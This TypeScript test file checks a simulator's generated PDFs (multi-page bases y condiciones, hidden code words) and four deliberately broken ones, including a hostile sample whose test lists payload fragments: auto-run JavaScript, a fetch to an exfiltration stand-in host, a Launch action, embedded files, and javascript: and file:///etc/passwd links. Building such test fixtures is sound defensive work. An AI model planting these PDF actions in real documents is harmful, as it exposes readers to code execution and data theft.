/**
 * The simulator's PDFs as a reader meets them: bases y condiciones of several pages, one made-up
 * word per such document found nowhere else, and on four open calls of their own the bad ones
 * (a scan, a password, a truncated file, a hostile sample), which PDF.js must treat as such.
 */
import * as pdfjs from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { codeWord } from '../../simulator/document-text';
import { encryptedPdfPassword } from '../../simulator/pdf-documents';
import { startSimulator, type Simulator } from '../../simulator/server';

const now = new Date('2026-03-02T12:00:00Z');
let sim: Simulator;
let records: Record<string, unknown>[];
/** Every PDF a record lists on the simulator, by URL, with its bytes as Latin-1 text. */
const pdfs = new Map<string, string>();

beforeAll(async () => {
  sim = await startSimulator({ seed: 3, now, sizes: { convocatorias: 200, tramites: 40 } });
  records = [...sim.records('convocatorias'), ...sim.records('tramites')];
  const urls = new Set(records.flatMap((r) => r['documentos'] as string[]).filter((d) => d.startsWith(sim.url) && d.endsWith('.pdf')));
  for (const url of urls) pdfs.set(url, Buffer.from(await (await fetch(url)).arrayBuffer()).toString('latin1'));
});
afterAll(() => sim.close());

const fileOf = (url: string): string => url.slice(url.lastIndexOf('/') + 1);

/** Object `n`'s body, found through the xref table (which must point at it exactly). */
function objects(text: string): Map<number, string> {
  const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1]);
  const [, count] = /^xref\n0 (\d+)\n/.exec(text.slice(startxref)) ?? [];
  const rows = text
    .slice(startxref)
    .split('\n')
    .slice(3, 2 + Number(count));
  const out = new Map<number, string>();
  rows.forEach((row, index) => {
    const n = index + 1;
    const offset = Number(row.slice(0, 10));
    const end = text.indexOf('\nendobj\n', offset);
    expect(text.slice(offset, offset + `${n} 0 obj\n`.length), `object ${n}`).toBe(`${n} 0 obj\n`);
    out.set(n, text.slice(offset + `${n} 0 obj\n`.length, end));
  });
  return out;
}

/** The content streams of the pages, in page order (Kids of the page tree, object 2). */
function pageStreams(text: string): string[] {
  const all = objects(text);
  const kids = [...(/\/Kids \[([^\]]*)\]/.exec(all.get(2) ?? '')?.[1] ?? '').matchAll(/(\d+) 0 R/g)].map((m) => Number(m[1]));
  return kids.map((kid) => {
    const contents = Number(/\/Contents (\d+) 0 R/.exec(all.get(kid) ?? '')?.[1]);
    return all.get(contents) ?? '';
  });
}

const listing = (prefix: string): Record<string, unknown>[] =>
  records.filter((r) => (r['documentos'] as string[]).some((d) => fileOf(d).startsWith(prefix)));

async function open(bytes: string, password?: string): Promise<{ pages: string[] } | { error: string }> {
  const task = pdfjs.getDocument({ data: new Uint8Array(Buffer.from(bytes, 'latin1')), verbosity: 0, ...(password ? { password } : {}) });
  try {
    const doc = await task.promise;
    const pages: string[] = [];
    for (let n = 1; n <= doc.numPages; n++) {
      const content = await (await doc.getPage(n)).getTextContent();
      pages.push(content.items.map((item) => ('str' in item ? item.str : '')).join(' '));
    }
    return { pages };
  } catch (cause) {
    return { error: cause instanceof Error ? cause.name : String(cause) };
  } finally {
    await task.destroy();
  }
}

describe('the simulator’s PDFs', () => {
  it('every PDF but the truncated one has an exact xref and true stream lengths', () => {
    expect(pdfs.size).toBeGreaterThan(10);
    for (const [url, text] of pdfs) {
      if (fileOf(url).startsWith('bases_incompletas')) continue;
      for (const body of objects(text).values()) {
        const stream = /\/Length (\d+) >>\nstream\n([\s\S]*)\nendstream$/.exec(body);
        if (stream !== null) expect(stream[2]?.length, url).toBe(Number(stream[1]));
      }
    }
  });

  it('bases y condiciones run 2 to 6 pages, each its own article; other PDFs one page', () => {
    const counts = new Set<number>();
    for (const [url, text] of pdfs) {
      if (fileOf(url).startsWith('bases_incompletas')) continue;
      const streams = pageStreams(text);
      expect(Number(/\/Count (\d+)/.exec(text)?.[1]), url).toBe(streams.length);
      if (!fileOf(url).startsWith('bases_y_condiciones')) {
        expect(streams.length, url).toBe(1);
        continue;
      }
      counts.add(streams.length);
      expect(streams.length, url).toBeGreaterThanOrEqual(2);
      expect(streams.length, url).toBeLessThanOrEqual(6);
      streams.forEach((stream, index) => {
        expect(stream, `${url} page ${index + 1}`).toContain(`(Página ${index + 1} de ${streams.length}) Tj`);
        if (index > 0) expect(stream, `${url} page ${index + 1}`).toContain(`(Artículo ${index}. `);
      });
    }
    expect(counts.size, 'several lengths').toBeGreaterThan(2);
  });

  it('each document of several pages has one code word, on the page codeWord names, in no record and no other PDF', () => {
    const folded = JSON.stringify(records).toLowerCase();
    const seen: string[] = [];
    for (const [url, text] of pdfs) {
      if (fileOf(url).startsWith('bases_incompletas')) continue;
      const streams = pageStreams(text);
      const found = streams.flatMap((s, index) =>
        [...s.matchAll(/\(Código de referencia: ([a-z]+)\.\) Tj/g)].map((m) => [m[1], index + 1]),
      );
      if (streams.length < 2) {
        expect(found, url).toEqual([]);
        continue;
      }
      expect(found, url).toHaveLength(1);
      const [word, page] = found[0] ?? [];
      expect(codeWord(fileOf(url)), url).toEqual({ word, page });
      expect(folded.includes(String(word)), `${String(word)} in a record`).toBe(false);
      seen.push(String(word));
    }
    expect(seen.length).toBeGreaterThan(3);
    expect(new Set(seen).size).toBe(seen.length);
  });

  it('the bad PDFs are on four open calls, one each, closing in two weeks or more', () => {
    for (const prefix of ['bases_escaneadas_', 'bases_protegidas_', 'bases_incompletas_', 'anexo_con_acciones_']) {
      const owners = listing(prefix);
      expect(owners, prefix).toHaveLength(1);
      expect(owners[0]?.['estado']).toBe('abierta');
      expect(String(owners[0]?.['fecha_fin']) >= '2026-03-16', prefix).toBe(true);
    }
  });

  it('documentText tells each page’s lines as PDF.js reads them, and null where there is no text to read', async () => {
    let checked = 0;
    for (const [url, text] of pdfs) {
      const told = sim.documentText(url);
      const opened = await open(text);
      if (!('pages' in opened) || opened.pages.every((page) => page === '')) {
        expect(told, url).toBeNull();
        continue;
      }
      expect(told?.length, url).toBe(opened.pages.length);
      told?.forEach((page, index) => {
        const read = (opened.pages[index] ?? '').replace(/\s+/g, ' ');
        for (const line of [page.heading, ...page.lines].filter((l) => l !== '')) expect(read, url).toContain(line.replace(/\s+/g, ' '));
      });
      checked++;
    }
    expect(checked).toBeGreaterThan(10);
    const docx = records.flatMap((r) => r['documentos'] as string[]).find((d) => d.endsWith('.docx'));
    expect(sim.documentText(String(docx))).toBeNull();
    expect(sim.documentText(`${sim.url}/media/uploads/no_existe.pdf`)).toBeNull();
  });

  const served = (prefix: string): string => [...pdfs].find(([url]) => fileOf(url).startsWith(prefix))?.[1] ?? '';

  it('the scan is one image and no text operator; PDF.js finds no text in it', async () => {
    const text = served('bases_escaneadas_');
    expect(text).toContain('/Subtype /Image');
    expect(text).not.toMatch(/\bBT\b|\bTj\b/);
    expect(await open(text)).toEqual({ pages: [''] });
  });

  it('the protected one asks PDF.js for a password, and with it reads as its record', async () => {
    const text = served('bases_protegidas_');
    const titulo = String(listing('bases_protegidas_')[0]?.['titulo']);
    expect(text).toContain('/Encrypt');
    expect(text).not.toContain(titulo);
    expect(await open(text)).toEqual({ error: 'PasswordException' });
    const opened = await open(text, encryptedPdfPassword);
    expect('pages' in opened && opened.pages[0]).toContain(`Convocatoria: ${titulo}`);
  });

  it('the truncated one has no page, no xref, no end; PDF.js gives up with an error', async () => {
    const text = served('bases_incompletas_');
    expect(text.startsWith('%PDF-1.4\n')).toBe(true);
    expect(text).not.toMatch(/xref|%%EOF|\/Page\b/);
    expect(await open(text)).toEqual({ error: 'InvalidPDFException' });
  });

  it('the hostile one carries the samples’ payloads and still reads as text', async () => {
    const text = served('anexo_con_acciones_');
    for (const payload of [
      '/OpenAction',
      '/S /JavaScript /JS (app.alert',
      "fetch\\('https://exfiltracion.invalid/",
      '/S /Launch',
      '/EmbeddedFiles << /Names [(leeme.txt)',
      '/Type /EmbeddedFile',
      '/URI (javascript:',
      '/URI (file:///etc/passwd)',
      '/URI (https://www.cultura.gob.ar/)',
    ])
      expect(text, payload).toContain(payload);
    const opened = await open(text);
    expect('pages' in opened && opened.pages[0]).toContain('Sitio del Ministerio de Cultura');
  });
});
